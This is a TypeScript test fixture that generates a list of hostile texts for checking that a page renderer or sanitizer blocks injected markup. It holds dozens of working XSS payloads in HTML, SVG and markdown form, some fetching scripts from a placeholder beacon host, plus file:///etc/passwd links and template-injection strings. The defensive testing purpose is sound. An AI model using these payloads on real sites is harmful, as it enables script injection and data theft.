/* Synthetic texts that try to inject markup, script or a request. Each would set `__pwned` or request the beacon. */

const act = 'window.__pwned=1';

/** Ways of making a page run script or send a request. */
const elements: readonly string[] = [
  `<script>${act}</script>`,
  `<ScRiPt>${act}</sCrIpT>`,
  `<script/x>${act}</script>`,
  `<script src="BEACON/a.js"></script>`,
  `<script type="module">import "BEACON/b.js"</script>`,
  `<img src=x onerror="${act}">`,
  `<img src="BEACON/c.png">`,
  `<img srcset="BEACON/d.png 1x">`,
  `<image href="BEACON/e.png">`,
  `<svg onload="${act}"></svg>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  `<svg><use href="BEACON/f.svg#x"></svg>`,
  `<svg><foreignObject><iframe src="BEACON/g"></iframe></foreignObject></svg>`,
  `<math><mtext><img src=x onerror="${act}"></mtext></math>`,
  `<iframe src="BEACON/h"></iframe>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<iframe src="javascript:${act}"></iframe>`,
  `<object data="BEACON/i"></object>`,
  `<embed src="BEACON/j">`,
  `<video src="BEACON/k" onerror="${act}"></video>`,
  `<audio src="BEACON/l" onerror="${act}"></audio>`,
  `<source src="BEACON/m">`,
  `<link rel=stylesheet href="BEACON/n.css">`,
  `<link rel=prefetch href="BEACON/o">`,
  `<style>@import "BEACON/p.css"; body{display:none}</style>`,
  `<style>body{background:url(BEACON/q)}</style>`,
  `<base href="BEACON/">`,
  `<meta http-equiv=refresh content="0;url=BEACON/r">`,
  `<form action="BEACON/s"><button autofocus onfocus="${act}">x</button></form>`,
  `<input autofocus onfocus="${act}">`,
  `<details open ontoggle="${act}">x</details>`,
  `<body onload="${act}">`,
  `<marquee onstart="${act}">x</marquee>`,
  `<a href="javascript:${act}">press</a>`,
  `<a href="data:text/html,<script>${act}</script>">press</a>`,
  `<a href="BEACON/t" ping="BEACON/u">press</a>`,
  `<a href="file:///etc/passwd">press</a>`,
  `<div style="background:url(BEACON/v)">x</div>`,
  `<p onmouseover="${act}" tabindex=0 onfocus="${act}">x</p>`,
  `<template><img src=x onerror="${act}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<webview src="BEACON/w" nodeintegration></webview>`,
  `<portal src="BEACON/x"></portal>`,
  `<dialog open onclose="${act}">x</dialog>`,
  `<select onchange="${act}"><option>x</select>`,
  `<table background="BEACON/y"><tr><td>x</table>`,
  `<frameset onload="${act}">`,
  `<applet code=x></applet>`,
  `<isindex action="BEACON/z">`,
];

const markdown: readonly string[] = [
  `[press](javascript:${act})`,
  `[press](JaVaScRiPt:${act})`,
  `[press](java&#10;script:${act})`,
  `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  '[press](vbscript:msgbox)',
  '[press](file:///etc/passwd)',
  '[press](app://statustray/index.html)',
  '[press](//statustray.invalid/x)',
  `[press](<javascript:${act}>)`,
  `<javascript:${act}>`,
  '![picture](BEACON/md1.png)',
  '![picture][ref]\n\n[ref]: BEACON/md2.png',
  `![x](x"onerror="${act})`,
  `[x](x" onmouseover="${act})`,
  `[ref]: javascript:${act}\n\n[ref]`,
  '```html\n<script>window.__pwned=1</script>\n```',
  '`<img src=x onerror=window.__pwned=1>`',
  '| a | b |\n|---|---|\n| <script>window.__pwned=1</script> | ![x](BEACON/md3.png) |',
  '> <img src=x onerror=window.__pwned=1>',
  '- [ ] <svg onload=window.__pwned=1>',
];

const others: readonly string[] = [
  '{{constructor.constructor("window.__pwned=1")()}}',
  "'-(window.__pwned=1)-'",
  '";window.__pwned=1;//',
  '</script><script>window.__pwned=1</script>',
  ']]><script>window.__pwned=1</script>',
  '--><script>window.__pwned=1</script>',
  '\\u003cscript\\u003ewindow.__pwned=1\\u003c/script\\u003e',
  '%3Cscript%3Ewindow.__pwned=1%3C/script%3E',
  '&lt;script&gt;window.__pwned=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__pwned=1&#62;',
  '__proto__',
  'constructor',
  '\u202Egnp.exe',
  '\uD800 half a character',
  'a\u0000b\u0008c\u001B[2J',
  `${'\u200B'.repeat(500)}x`,
  `${'Z\u0334\u0321\u031B'.repeat(200)}`,
  'x'.repeat(20_000),
  `${'[a]('.repeat(2_000)}x`,
  `${'<b>'.repeat(2_000)}x`,
  `${'> '.repeat(1_000)}x`,
  `${'> '.repeat(3_250)}x`,
  `${'*a_ '.repeat(1_000)}x`,
  `${'a*'.repeat(1_000)}x`,
  '<p>x</p><constructor>y</constructor><toString>z</toString>',
  `Jun 18, 18:09 UTC ${'-'.repeat(2_000)}☃`,
];

/** Contexts in which parsers have been fooled. */
const wrappings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `<p>${text}</p>`,
  (text) => `<a title='${text}' href="https://status.example/">x</a>`,
];

/** At least two hundred texts, with this address in place of `BEACON`. */
export function hostileTexts(beacon: string): readonly string[] {
  const wrapped = elements.flatMap((text) => wrappings.map((wrap) => wrap(text)));
  const twice = markdown.flatMap((text) => [text, `**${text}**`]);
  return [...wrapped, ...twice, ...others].map((text) => text.replaceAll('BEACON', beacon));
}
